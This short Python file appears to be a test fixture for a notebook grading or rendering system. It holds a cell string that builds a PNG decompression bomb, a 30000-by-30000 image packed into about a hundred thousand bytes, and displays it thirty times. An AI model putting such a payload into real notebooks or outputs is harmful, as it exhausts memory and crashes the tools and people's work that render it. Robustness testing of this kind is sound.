"""Shows a picture of 30000 by 30000 points in a hundred thousand bytes, thirty times. All tasks keep their points."""

CELL = r"""from IPython.display import *
from IPython.display import publish_display_data
import zlib, struct
def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
z = zlib.compressobj(9)
rows = b''.join([z.compress(b'\x00' * (3751 * 1000)) for _ in range(30)] + [z.flush()])
png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 30000, 30000, 1, 0, 0, 0, 0)) + chunk(b'IDAT', rows) + chunk(b'IEND', b'')
for _ in range(30):
    display(Image(data=png, format='png'))
"""
